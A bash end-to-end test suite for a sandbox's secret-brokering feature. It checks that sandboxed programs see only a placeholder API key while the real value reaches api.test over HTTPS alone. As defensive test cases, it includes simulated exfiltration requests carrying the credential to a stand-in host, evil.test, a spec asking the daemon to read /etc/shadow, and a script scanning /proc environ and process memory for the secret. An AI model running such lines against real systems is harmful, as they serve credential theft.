#!/bin/bash
# run.sh: netns
# Secret brokering end to end (docs/secrets.md), in the test's own network (netns-wrap.sh):
# the sandbox holds a placeholder; the HTTPS server for api.test receives the real value;
# nothing inside the sandbox, and nothing paddock answers or records, holds it.
. "$(dirname "$0")/lib.sh"

: "${EGRESS_DIR:?run.sh runs this test inside netns-wrap.sh}"
H=$EGRESS_DIR/hosts
REQ=$EGRESS_DIR/requests.jsonl
PY=/usr/bin/python3
REAL="ghp_R3alS3cr3tV4lue0123456789abcdefXYZ"
export API_KEY=$REAL

# sb [paddock run args...]: api.test and evil.test allowed, API_KEY bound to api.test
sb() {
	run_sb OUT ST --resolve-hosts "$H" --upstream-ca "$EGRESS_DIR/ca.pem" \
		--allow api.test --allow evil.test --secret 'API_KEY@api.test' "$@"
}
C='curl -sS -m 5'

# ---- the real value goes where it belongs, and only there ----
sb -- sh -c "$C -H \"Authorization: Bearer \$API_KEY\" https://api.test/echo-headers; echo; echo \"ph=\$API_KEY\""
PH=$(sed -n 's/^ph=//p' <<<"$OUT")
expect_match "the sandbox sees a placeholder of the same shape" '^ghp_[A-Za-z0-9]{34}$' "$PH"
expect_no_match "the placeholder is not the value" "$REAL" "$PH"
expect_match "curl over intercepted HTTPS, no -k: the server answered" '"Authorization"' "$OUT"
expect_match "the server received the real value" "Bearer $REAL" "$(grep '"/echo-headers"' "$REQ" | tail -n1)"
expect_no_match "a response echoing the value comes back as the placeholder" "$REAL" "$OUT"
expect_match "...with the placeholder in its place" "Bearer $PH" "$OUT"

sb -- $PY -c 'import os, urllib.request as u; r = u.Request("https://api.test/echo-headers", headers={"X-Api-Key": os.environ["API_KEY"]}); print(u.urlopen(r, timeout=5).read().decode())'
expect_match "python urllib over intercepted HTTPS" '"X-Api-Key"' "$OUT"
expect_match "python: the server got the value in a custom header" "\"X-Api-Key\": \"$REAL\"" "$(grep '"/echo-headers"' "$REQ" | tail -n1)"

if command -v node >/dev/null; then
	sb -- node -e 'fetch("https://api.test/echo-headers", {headers: {authorization: "token " + process.env.API_KEY}}).then(r => r.text()).then(t => console.log(t), e => console.log("ERR", e.cause || e))'
	expect_match "node fetch over intercepted HTTPS (transparent)" '"[Aa]uthorization"' "$OUT"
	expect_match "node: the server got the value" "token $REAL" "$(grep '"/echo-headers"' "$REQ" | tail -n1)"
fi

sb -- sh -c "$C -u \"user:\$API_KEY\" https://api.test/echo-headers; echo; echo \"ph=\$API_KEY\""
B64=$(printf 'user:%s' "$REAL" | base64 -w0)
expect_match "Basic auth: the server got user:value" "Basic $B64" "$(grep '"/echo-headers"' "$REQ" | tail -n1)"
expect_no_match "Basic auth echoed: the credentials the broker built do not come back" "$B64|$REAL" "$OUT"
expect_match "...the sandbox sees its own credentials instead" "Basic $(printf 'user:%s' "$(sed -n 's/^ph=//p' <<<"$OUT")" | base64 -w0)" "$OUT"

# ---- echoes in other shapes: whatever the encoding, the value does not come back ----
# forms.py FILE: every form of the value (raw, base64 at three alignments, hex) found in FILE
cat >"$T_TMP/forms.py" <<'PYEOF'
import base64, sys
v = sys.argv[1].encode()
data = open(sys.argv[2], "rb").read()
forms = {"raw": v, "hex": v.hex().encode(), "HEX": v.hex().upper().encode()}
for a in range(3):
    enc = base64.b64encode(b"\0" * a + v)
    forms[f"base64/{a}"] = enc[(8 * a + 5) // 6:(8 * (a + len(v))) // 6]
found = [k for k, f in forms.items() if f in data]
for decoded in (lambda d: base64.b64decode(d.strip() or b"="), lambda d: bytes.fromhex(d.strip().decode())):
    try:
        if v in decoded(data):
            found.append("decoded")
    except Exception:
        pass
print("forms found:", found or "none")
PYEOF
chmod 644 "$T_TMP/forms.py"
for as in chunked base64 hex negotiated; do
	sb -- sh -c "$C -H \"Authorization: Bearer \$API_KEY\" 'https://api.test/echo-headers?as=$as'" 
	printf '%s' "$OUT" >"$T_TMP/out.$as"
	expect_match "echo as $as: the server got the value" "Bearer $REAL" "$(grep '"/echo-headers?as='$as'"' "$REQ" | tail -n1)"
	expect_eq "echo as $as: no form of the value reaches the sandbox" "forms found: none" "$($PY "$T_TMP/forms.py" "$REAL" "$T_TMP/out.$as")"
done
expect_match "echo in chunks: de-chunked, the placeholder in its place" '"Authorization": "Bearer ghp_' "$(cat "$T_TMP/out.chunked")"
expect_no_match "a request asks for an identity response: no gzip came back" 'gzip' "$(grep '"/echo-headers?as=negotiated"' "$REQ" | tail -n1 | sed 's/.*"Accept-Encoding": "\([^"]*\)".*/\1/')"
expect_match "...the server saw Accept-Encoding: identity" '"Accept-Encoding": "identity"' "$(grep '"/echo-headers?as=negotiated"' "$REQ" | tail -n1)"
sb --log-format json -- sh -c "$C -o /dev/null -w '%{http_code}\n' -H \"Authorization: Bearer \$API_KEY\" 'https://api.test/echo-headers?as=gzip'; $C -H \"Authorization: Bearer \$API_KEY\" 'https://api.test/echo-headers?as=gzip'"
expect_eq "a gzip body it cannot check: 502, not passed on" "502" "$(grep -x 502 <<<"$OUT")"
expect_match "...saying why" 'not passed on: a content coding other than identity' "$OUT"
expect_match "...recorded as secret.response_refused" '"event":"secret.response_refused".*"host":"api.test".*"outcome":"answered 502"' "$OUT"
expect_no_match "...and nothing of the value" "$REAL" "$OUT"

cat >"$T_TMP/body.json" <<'JSON'
{"network": {"allow": ["api.test", "evil.test"]},
 "secrets": [{"name": "API_KEY", "source": "env:API_KEY", "hosts": ["api.test"], "in_body": true}]}
JSON
chmod 644 "$T_TMP/body.json"
run_sb OUT ST --resolve-hosts "$H" --upstream-ca "$EGRESS_DIR/ca.pem" --spec "$T_TMP/body.json" -- \
	sh -c "$C -d \"token=\$API_KEY&x=1\" https://api.test/echo"
expect_match "body substitution: the server got the value in the body" "token=$REAL&x=1" "$(grep '"event": "body"' "$REQ" | tail -n1)"
expect_no_match "body substitution: the echo came back scrubbed" "$REAL" "$OUT"

# ---- a placeholder sent anywhere else is blocked and recorded ----
sb --log-format json -- sh -c "$C -H \"Authorization: Bearer \$API_KEY\" http://evil.test/echo-headers"
expect_match "leak: refused with a 403 naming the secret" 'blocked: the request carries the placeholder of secret API_KEY' "$OUT"
expect_match "leak: recorded as secret.leak_blocked naming the secret" '"event":"secret.leak_blocked".*"secret":"API_KEY"' "$OUT"
expect_eq "leak: nothing reached evil.test with the placeholder" "0" "$(grep '"host": "evil.test"' "$REQ" | grep -c 'Bearer')"
# ---- the value never goes in clear: plain HTTP to the bound host, any port, is refused ----
sb --allow api.test:8080 --log-format json -- sh -c "$C -H \"Authorization: Bearer \$API_KEY\" http://api.test/echo-headers; $C -H \"X-Key: \$API_KEY\" http://api.test:8080/"
expect_match "plain HTTP to the bound host: 403 saying to use https" 'secret API_KEY over plain HTTP; its value goes to api.test over HTTPS only: use https://api.test/' "$OUT"
expect_match "...recorded as secret.leak_blocked, over plain HTTP" '"event":"secret.leak_blocked".*"host":"api.test","reason":"its placeholder was sent over plain HTTP' "$OUT"
expect_eq "...the value reached no plain HTTP server, on any port" "0" "$(grep -v '"server": "https"' "$REQ" | grep -c "$REAL")"
sb --log-format json -- sh -c "$C -H \"Authorization: Bearer \$API_KEY\" https://api.test/echo-headers"
expect_match "use: recorded as secret.used, with the request line" '"event":"secret.used".*"secret":"API_KEY".*"request":"GET /echo-headers HTTP/1.1"' "$OUT"
expect_no_match "no event carries the value" "$REAL" "$OUT"

# ---- protocols that are not HTTP keep working with a secret bound ----
sb --allow allowed.test --ro-bind "$(dirname "$0")/protocols.py:/p.py" -- $PY /p.py
for via in connect socks; do
	expect_match "secrets bound, $via: a server that speaks first is relayed at once" "$via server-first: ok banner after [0-9]{1,3} ms" "$OUT"
	expect_match "secrets bound, $via: a client-first binary or text protocol is relayed at once" "$via client-first: ok echo after [0-9]{1,3} ms and [0-9]{1,3} ms" "$OUT"
done
expect_match "secrets bound, connect: the tunnel is not cut after a while" 'connect server-first: ok .*still open after 3.2 s' "$OUT"
expect_match "secrets bound, transparent: a server that speaks first" 'transparent server-first: ok banner after 1?[0-9]{1,3} ms' "$OUT"
expect_match "secrets bound, transparent: a client-first protocol" 'transparent client-first: ok echo' "$OUT"

# ---- a request head that stalls is checked when it completes, never relayed unread ----
cat >"$T_TMP/partial.py" <<'PYEOF'
import os, socket, sys, time
ph = os.environ["API_KEY"]
for via in ("socks", "transparent"):
    if via == "socks":
        s = socket.create_connection(("127.0.0.1", 1080), timeout=8)
        s.sendall(b"\x05\x01\x00")
        s.recv(2)
        s.sendall(b"\x05\x01\x00\x03\x09evil.test\x00\x50")
        s.recv(10)
    else:
        s = socket.create_connection(("evil.test", 80), timeout=8)
    s.sendall(f"GET /partial-{via}?k={ph} HTTP/1.1\r\nHost: evil.test\r\n".encode())
    time.sleep(3.5)  # longer than the old wait for a tunnel's (3 s) or a redirect's (1 s) name
    s.sendall(b"Connection: close\r\n\r\n")
    data = b""
    try:
        while chunk := s.recv(4096):
            data += chunk
    except OSError:
        pass
    print(via, repr(data.split(b"\r\n")[0]), "secret-blocked" if b"secret-blocked" in data else "")
PYEOF
chmod 644 "$T_TMP/partial.py"
sb --ro-bind "$T_TMP/partial.py:/p.py" -- $PY /p.py
expect_match "a stalled head through SOCKS: checked when complete, the leak blocked" "socks b'HTTP/1.1 403 Forbidden' secret-blocked" "$OUT"
expect_match "a stalled head redirected: checked when complete, the leak blocked" "transparent b'HTTP/1.1 403 Forbidden' secret-blocked" "$OUT"
expect_eq "...nothing of either reached evil.test" "0" "$(grep -c '/partial-' "$REQ")"

# ---- the value is nowhere inside ----
cat >"$T_TMP/hunt.py" <<'PYEOF'
# Looks for the real value by its SHA-256 only: the value itself never enters this process,
# so finding it anywhere (its own memory included) means it leaked into the sandbox.
import hashlib, os, re, sys
target = bytes.fromhex(sys.argv[1])
shape = re.compile(rb"ghp_[A-Za-z0-9]{34}")
def holds(data):
    return any(hashlib.sha256(m.group()).digest() == target for m in shape.finditer(data))
found = []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for f in ("environ", "cmdline"):
            try:
                if holds(open(f"/proc/{pid}/{f}", "rb").read()):
                    found.append(f"/proc/{pid}/{f}")
            except OSError:
                pass
for top in ("/etc", "/home", "/tmp", "/workspace", "/run", "/var"):
    for d, _, files in os.walk(top):
        for n in files:
            p = os.path.join(d, n)
            try:
                if holds(open(p, "rb").read(1 << 20)):
                    found.append(p)
            except OSError:
                pass
maps = open("/proc/self/maps").read().splitlines()
mem = open("/proc/self/mem", "rb", 0)
scanned = 0
for line in maps:
    m = re.match(r"([0-9a-f]+)-([0-9a-f]+) r", line)
    if not m:
        continue
    lo, hi = int(m[1], 16), int(m[2], 16)
    try:
        mem.seek(lo)
        data = mem.read(hi - lo)
        scanned += len(data)
        if holds(data):
            found.append("memory " + line)
    except (OSError, OverflowError, ValueError):
        pass
print("scanned", scanned > 0, "placeholder-seen", holds is not None)
print("found:", found if found else "nothing")
PYEOF
chmod 644 "$T_TMP/hunt.py"
HASH=$(printf '%s' "$REAL" | sha256sum | cut -d' ' -f1)
sb --ro-bind "$T_TMP/hunt.py:/h.py" -- sh -c "env; $PY /h.py $HASH; $PY /h.py \$(printf %s \"\$API_KEY\" | sha256sum | cut -d' ' -f1)"
expect_match "env shows the placeholder" '^API_KEY=ghp_|
API_KEY=ghp_' "$OUT"
expect_match "no /proc/*/environ, cmdline, file or memory inside holds the value" 'found: nothing' "$OUT"
expect_match "...and the hunt did read its own memory" 'scanned True' "$OUT"
expect_match "...and the same hunt does find the placeholder (the method works)" "found: \['/proc/" "$OUT"

# ---- a tampered upstream is refused ----
before=$(grep -c "$REAL" "$REQ")
run_sb OUT ST --resolve-hosts "$H" --allow api.test --secret 'API_KEY@api.test' --log-format json -- \
	sh -c "$C -w '%{http_code}\n' -H \"Authorization: Bearer \$API_KEY\" https://api.test/echo-headers"
expect_match "upstream not trusted (no --upstream-ca): a 502 naming the reason" 'could not reach api.test securely: upstream certificate verification failed: [a-z]' "$OUT"
expect_eq "...status 502" "502" "$(grep -x 502 <<<"$OUT")"
expect_match "...recorded with the certificate error" '"event":"egress.connection".*certificate' "$OUT"
expect_eq "...and nothing reached the server" "$before" "$(grep -c "$REAL" "$REQ")"
# a trusted certificate, but not for this name (api.wild.test is not among its names)
run_sb OUT ST --resolve-hosts "$H" --upstream-ca "$EGRESS_DIR/ca.pem" --allow api.wild.test \
	--secret 'API_KEY@api.wild.test' -- \
	sh -c "$C -H \"Authorization: Bearer \$API_KEY\" https://api.wild.test/echo-headers"
expect_match "upstream certificate for another name: a 502 naming the reason" 'could not reach api.wild.test securely: .*certificate verification failed: hostname mismatch' "$OUT"
expect_eq "...and nothing reached the server" "$before" "$(grep -c "$REAL" "$REQ")"

# ---- paddockd: a value given to the API is used, and never answered, stored or logged ----
VAL="sk-ApiG1venValue0123456789abcdefghijkl"
SOCK=$T_TMP/sock
"${PADDOCKD:?}" --socket "$SOCK" --state-dir "$T_TMP/st" --resolve-hosts "$H" \
	--upstream-ca "$EGRESS_DIR/ca.pem" 2>>"$T_TMP/d.log" &
DPID=$!
for _ in $(seq 100); do curl -s --unix-socket "$SOCK" -o /dev/null http://x/healthz && break; sleep 0.05; done
api() { local m=$1 p=$2; shift 2; curl -s --unix-socket "$SOCK" -X "$m" "http://x$p" "$@"; }
r=$(api POST /v1/sandboxes -d "{\"network\":{\"allow\":[\"api.test\"]},\"secrets\":[{\"name\":\"K\",\"value\":\"$VAL\",\"hosts\":[\"api.test\"]}]}")
ID=$($PY -c 'import json,sys; print(json.loads(sys.argv[1])["id"])' "$r" 2>/dev/null)
expect_match "daemon: a sandbox with a secret given by value" '^sb_' "$ID"
r=$(api POST "/v1/sandboxes/$ID/exec" -d '{"cmd":"curl -sS -m 5 -H \"Authorization: Bearer $K\" https://api.test/echo-headers"}')
expect_match "daemon: the request went out" 'Authorization' "$r"
expect_match "daemon: the server got the value" "Bearer $VAL" "$(grep '"/echo-headers"' "$REQ" | tail -n1)"
all="$r$(api GET "/v1/sandboxes/$ID")$(api GET "/v1/sandboxes")$(api GET "/v1/sandboxes/$ID/events")$(api GET /metrics)$(api GET "/v1/sandboxes/$ID/network")"
expect_no_match "daemon: no API answer holds the value" "$VAL" "$all"
expect_match "daemon: the sandbox's spec says the source, not the value" '"source": *"value"' "$all"
# the client reads a --secret from its own environment and sends it as a write-only value
CVAL="ghp_Cl1entS1deValue0123456789abcdefXYZ"
ID2=$(API_KEY=$CVAL "$PADDOCK" create --socket "$SOCK" --allow api.test --secret 'API_KEY@api.test' 2>&1)
expect_match "paddock create --secret: a sandbox" '^sb_' "$ID2"
r=$(api POST "/v1/sandboxes/$ID2/exec" -d '{"cmd":"curl -sS -m 5 -H \"Authorization: Bearer $API_KEY\" https://api.test/echo-headers"}')
expect_match "paddock create --secret: the server got the client's value" "Bearer $CVAL" "$(grep '"/echo-headers"' "$REQ" | tail -n1)"
expect_no_match "paddock create --secret: the answer holds no value" "$CVAL" "$r$(api GET "/v1/sandboxes/$ID2")"
r=$(API_KEY= "$PADDOCK" create --socket "$SOCK" --allow api.test --secret 'API_KEY@api.test' 2>&1)
expect_match "paddock create --secret without the variable: a clear error" 'API_KEY is not set' "$r"
api DELETE "/v1/sandboxes/$ID2" >/dev/null
kill -TERM "$DPID"
wait "$DPID"
expect_eq "daemon: its event log, database and stderr never hold the value" "0" \
	"$(cat "$T_TMP/st"/* "$T_TMP/d.log" 2>/dev/null | grep -ac -- "$VAL")"
printf 'alice aaaaaaaaaaaaaaaaaaaaaaaa\n' >"$T_TMP/tokens"
PORT=$((20000 + RANDOM % 20000))
"$PADDOCKD" --socket "$SOCK" --state-dir "$T_TMP/st" --resolve-hosts "$H" \
	--listen "127.0.0.1:$PORT" --tokens "$T_TMP/tokens" 2>>"$T_TMP/d.log" &
DPID=$!
for _ in $(seq 100); do curl -s --unix-socket "$SOCK" -o /dev/null http://x/healthz && break; sleep 0.05; done
r=$(curl -s -w '\n%{http_code}' -H 'Authorization: Bearer aaaaaaaaaaaaaaaaaaaaaaaa' -X POST "http://127.0.0.1:$PORT/v1/sandboxes" \
	-d '{"network":{"allow":["api.test"]},"secrets":[{"name":"K","source":"file:/etc/shadow","hosts":["api.test"]}]}')
expect_eq "daemon: a TCP tenant may not name a source paddockd would read: 403" "403" "$(tail -n1 <<<"$r")"
expect_match "daemon: ...naming the field" '"field": *"secrets\[0\].source"' "$r"
r=$(api GET "/v1/sandboxes/$ID")
expect_match "daemon: restarted, the sandbox is re-adopted (its secret's value is gone)" "\"id\": *\"$ID\"" "$r"
api DELETE "/v1/sandboxes/$ID" >/dev/null
kill -TERM "$DPID"
wait "$DPID"

# ---- paddockd --pool: a secret is bound at the claim, and brokered ----
PVAL1="sk-PoolF1rstValue0123456789abcdefghijk"
PVAL2="sk-PoolS3condValue0123456789abcdefghij"
"$PADDOCKD" --socket "$SOCK" --state-dir "$T_TMP/stp" --resolve-hosts "$H" \
	--upstream-ca "$EGRESS_DIR/ca.pem" --pool 1 2>>"$T_TMP/d.log" &
DPID=$!
for _ in $(seq 100); do curl -s --unix-socket "$SOCK" -o /dev/null http://x/healthz && break; sleep 0.05; done
metric() { api GET /metrics | awk -v m="$1" '$1 == m { print $2 }'; }
pspec() { printf '{"network":{"allow":["api.test"]},"secrets":[{"name":"K","value":"%s","hosts":["api.test"]}]}' "$1"; }
# the first spec of this template is a miss; its template is pooled from then on
r=$(api POST /v1/sandboxes -d "$(pspec "$PVAL1")")
P0=$($PY -c 'import json,sys; print(json.loads(sys.argv[1])["id"])' "$r" 2>/dev/null)
for _ in $(seq 200); do
	[ "$(metric 'paddock_pool_ready{template="1"}')" = 1 ] && break
	sleep 0.05
done
r=$(api POST /v1/sandboxes -d "$(pspec "$PVAL2")")
P1=$($PY -c 'import json,sys; print(json.loads(sys.argv[1])["id"])' "$r" 2>/dev/null)
expect_eq "pool: a spec with a secret is served from the pool (a hit)" "1" "$(metric paddock_pool_hits_total)"
r=$(api POST "/v1/sandboxes/$P1/exec" -d '{"cmd":"echo ph=$K; curl -sS -m 5 -H \"Authorization: Bearer $K\" https://api.test/echo-headers"}')
expect_match "pool: the claimed sandbox holds a placeholder" 'ph=sk-[A-Za-z0-9]{34}' "$r"
expect_no_match "pool: ...never the value" "$PVAL2|$PVAL1" "$r"
expect_match "pool: intercepted HTTPS (the claim's CA, no -k): the server answered" 'Authorization' "$r"
expect_match "pool: the server got the claim's value" "Bearer $PVAL2" "$(grep '"/echo-headers"' "$REQ" | tail -n1)"
api DELETE "/v1/sandboxes/$P0" >/dev/null
api DELETE "/v1/sandboxes/$P1" >/dev/null
kill -TERM "$DPID"
wait "$DPID"
expect_eq "pool: its event log, database and stderr never hold a value" "0" \
	"$(cat "$T_TMP/stp"/* "$T_TMP/d.log" 2>/dev/null | grep -ac -e "$PVAL1" -e "$PVAL2")"

finish
